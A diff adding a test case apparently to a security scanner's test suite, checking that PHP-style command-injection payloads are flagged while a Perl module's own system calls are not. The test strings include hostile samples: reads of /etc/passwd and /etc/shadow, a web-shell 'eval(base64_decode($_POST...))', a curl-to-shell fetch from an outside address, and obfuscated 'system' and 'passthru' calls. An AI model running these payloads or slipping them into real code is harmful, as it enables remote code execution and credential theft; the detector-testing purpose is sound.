@@ -1960,3 +1960,16 @@ t.test("twenty-eighth round (Perl modules on this machine): a Perl program's sou
   t.same(json({ text: module('sub tag {\n    my $x = `git describe --tags`;\n    return $x;\n}') }), [])
   t.ok(json({ text: module('sub pw {\n    open(my $fh, "<", "/etc/shadow");\n    return <$fh>;\n}') }).includes('path_traversal'))
 })
+
+t.test("twenty-eighth round, review: `use strict;` above a PHP payload makes no Perl program of it; a method's call spells no joined sink", async (t) => {
+  const perlish = (line: string) => `use strict;\nuse warnings;\nmy $cmd = 'x';\nmy $out = 'y';\n${line}\n`
+  for (const line of ["system('cat /etc/passwd');", "exec('whoami');", "shell_exec('id');", "passthru($_GET['c']);", "system($_GET['c']);", "eval(base64_decode($_POST['x']));", "system('curl http://203.0.113.7/x | sh');"]) {
+    t.ok(json({ text: perlish(line) }).includes('rce'), line)
+  }
+  // a Perl module's own process calls stay its own
+  const module = (body: string) => `# -*- mode: perl; -*-\n\npackage Math::Thing::Trace;\n\nuse strict;\nuse warnings;\n\nour $VERSION = '0.65';\n\n${body}\n\n1;\n`
+  for (const body of ['sub run {\n    my ($cmd, @args) = @_;\n    system($cmd, @args);\n}', 'sub ver {\n    system("make", "-C", $dir) == 0 or die;\n}']) t.same(json({ text: module(body) }), [], body)
+  // Python's `p.open('w')` is a method's call (the pieces `p` and `open` spell `popen`): the joined name is called only past its parentheses
+  for (const v of ["with p.open('w') as f:", "q = p.open(mode='r')", 'p.open() ; $x(1)']) t.notOk(q(v).includes('rce'), v)
+  for (const v of ["$a='sy'.'stem';$a('ls');", '("sys"."tem")("id")', '(sy.(st).em)(whoami);', '$a=sy.stem;$a(id);', "('pass'.'thru')('id');"]) t.ok(q(v).includes('rce'), v)
+})
